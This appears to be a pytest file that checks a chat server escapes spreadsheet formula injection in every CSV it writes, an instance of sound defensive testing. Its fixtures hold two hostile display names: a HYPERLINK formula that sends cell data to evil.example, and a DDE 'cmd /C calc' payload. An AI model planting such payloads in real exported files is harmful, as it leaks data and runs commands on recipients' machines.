"""Formula injection: text others chose comes out inert in every CSV the service writes.

A staff display name starting with ``=`` was a live formula in
``tables/concurrency.csv`` (issue 20, point 13). Every CSV goes through
:mod:`chatserver.csv_cells`: the statistics tables, the per-contact export,
``chatserver stats export`` and the audit review.
"""

from __future__ import annotations

import csv
import io

import pytest
from starlette.testclient import TestClient

from chatserver.cli.commands import main
from chatserver.csv_cells import FORMULA_START, cell, to_csv
from chatserver.settings import Settings
from chatserver.stats.tables import TABLE_NAMES
from chatserver.storage.plan import Plan, execute
from tests.helpers import PASSWORD, Seed, login
from tests.stats.fixtures import write

PERIOD = "unit=hc1&from=2026-03-23&to=2026-04-05"
NAMES = {
    "nurse1": '=HYPERLINK("http://evil.example/?"&A1,"Nina")',
    "doctor1": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _rename(names: dict[int, str]) -> Plan[None]:
    for user_id, name in names.items():
        yield execute("UPDATE users SET display_name = ? WHERE id = ?", name, user_id)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_inert(text: str) -> None:
    live = [c for c in _cells(text) if c.startswith(FORMULA_START)]
    assert not live, f"cells a spreadsheet would run: {live}"


def test_cell_escapes_formula_starts() -> None:
    """=, +, -, @, tab and CR lead to a quote; numbers and plain text stay as they are."""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell("Nina Nurse") == "Nina Nurse"
    assert cell(None) == ""
    assert cell(-3) == -3
    assert cell(-0.5) == -0.5
    assert to_csv(("a", "b"), [("=1", -1)]) == "a,b\r\n'=1,-1\r\n"


def test_staff_names_are_inert_in_every_csv(
    stats_client: TestClient,
    seed: Seed,
    settings: Settings,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A display name starting with = or @ is text in the tables, the contact export,
    the CLI export and the audit CSV."""
    write(settings, _rename({seed[u].id: name for u, name in NAMES.items()}))
    login(stats_client, seed["manager1"])

    concurrency = stats_client.get(f"/api/stats/tables/concurrency.csv?{PERIOD}")
    assert concurrency.status_code == 200
    names = [row[1] for row in csv.reader(io.StringIO(concurrency.text))][1:]
    assert sorted(names) == sorted("'" + n for n in NAMES.values())
    for name in TABLE_NAMES:
        r = stats_client.get(f"/api/stats/tables/{name}.csv?{PERIOD}")
        assert r.status_code == 200, (name, r.text)
        _assert_inert(r.text)
    _assert_inert(stats_client.get(f"/api/stats/export/contacts.csv?{PERIOD}").text)

    args = ["stats", "export", "--data-dir", str(settings.data_dir)]
    period = ["--from", "2026-03-23", "--to", "2026-04-05", "--unit", "hc1"]
    assert main([*args, *period, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'" + NAMES["nurse1"].replace('"', '""') in out
    _assert_inert("\r\n".join(line for line in out.splitlines() if not line.startswith("# ")))

    # A failed sign-in records the typed username: the audit CSV shows text only.
    stats_client.post("/api/staff/login", json={"username": "=1+1", "password": PASSWORD})
    login(stats_client, seed["admin1"])
    audit = stats_client.get("/api/audit/events?format=csv")
    assert audit.status_code == 200
    _assert_inert(audit.text)
    _assert_inert(stats_client.get("/api/audit/sample?format=csv&n=50").text)
